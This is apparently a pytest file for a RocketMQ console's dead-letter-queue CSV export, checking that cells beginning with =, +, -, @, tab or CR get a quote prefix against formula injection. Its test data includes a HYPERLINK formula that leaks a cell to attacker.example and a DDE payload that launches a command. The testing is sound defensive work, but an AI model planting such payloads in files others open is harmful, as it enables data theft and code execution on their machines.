"""CSV the console writes opens in a spreadsheet as text, never as a formula (issue #46, finding 4: the DLQ
export wrote cells beginning with ``=``, ``+``, ``-``, ``@`` as they were, so a producer's message body could
run a formula on the operator's machine). OWASP's rule: such a cell (and one starting with a tab or CR) gets
a ``'`` in front.

rocketmq-dashboard (the Java console) exports DLQ messages as an Excel sheet with the bodies as they are."""

from __future__ import annotations

import csv
import io

import pytest

pytest.importorskip("starlette")

from clusters import real_cluster  # noqa: E402

from rocketpy.client import Producer, make_message  # noqa: E402
from rocketpy.client.admin import Admin  # noqa: E402
from rocketpy.codecs.message_types import MessageExt  # noqa: E402
from rocketpy.console.app import ConsoleSettings, build_app  # noqa: E402
from rocketpy.console.data import ConsoleData, export_csv  # noqa: E402
from rocketpy.console.testing import AsgiClient  # noqa: E402

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_could_be_a_formula_is_text(text: str) -> None:
    from rocketpy.console.csvsafe import safe_cell

    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain body", "a=b", " =1", "", "'quoted", 42, -1])
def test_other_cells_are_as_they_were(value: object) -> None:
    from rocketpy.console.csvsafe import safe_cell

    assert safe_cell(value) == value


def test_every_text_column_of_the_export_is_escaped() -> None:
    msg = MessageExt(topic="%DLQ%G", body=FORMULAS[0].encode(), queue_offset=-1, born_host="=1+1")
    msg.properties.update({"TAGS": "@tag", "KEYS": "-key", "RETRY_TOPIC": "+origin"})
    row = next(csv.DictReader(io.StringIO(export_csv([msg]))))
    assert row["body"] == "'" + FORMULAS[0] and row["tags"] == "'@tag" and row["keys"] == "'-key"
    assert row["originTopic"] == "'+origin" and row["bornHost"] == "'=1+1"
    assert row["queueOffset"] == "-1"  # a number the console writes, not text anyone chose


@pytest.mark.timeout(60)
async def test_the_dlq_export_of_hostile_bodies() -> None:
    async with real_cluster() as cluster, Admin(cluster.namesrv) as admin:
        data = ConsoleData(admin)
        try:
            async with Producer("PG_csv_test", namesrv=cluster.namesrv) as producer:
                ids = []
                for i, text in enumerate(FORMULAS):
                    msg_id = (await producer.send(make_message("TCsv", text, keys=f"@key-{i}"))).msg_id
                    found = await admin.view_message(msg_id, "TCsv")
                    await admin.client.api.send_message_back(found.store_host, found, "GCsv", -1, 16, None)
                    ids.append(msg_id)
            browser = AsgiClient(build_app(ConsoleSettings(namesrv=cluster.namesrv), data))
            answer = await browser.get("/dlq/export?group=GCsv")
        finally:
            await data.aclose()
    assert answer.status == 200 and answer.header("content-type").startswith("text/csv")
    rows = {r["msgId"]: r for r in csv.DictReader(io.StringIO(answer.text, newline=""))}
    assert sorted(rows) == sorted(ids)
    for msg_id, text in zip(ids, FORMULAS, strict=True):
        assert rows[msg_id]["body"] == "'" + text and rows[msg_id]["keys"].startswith("'@key-")
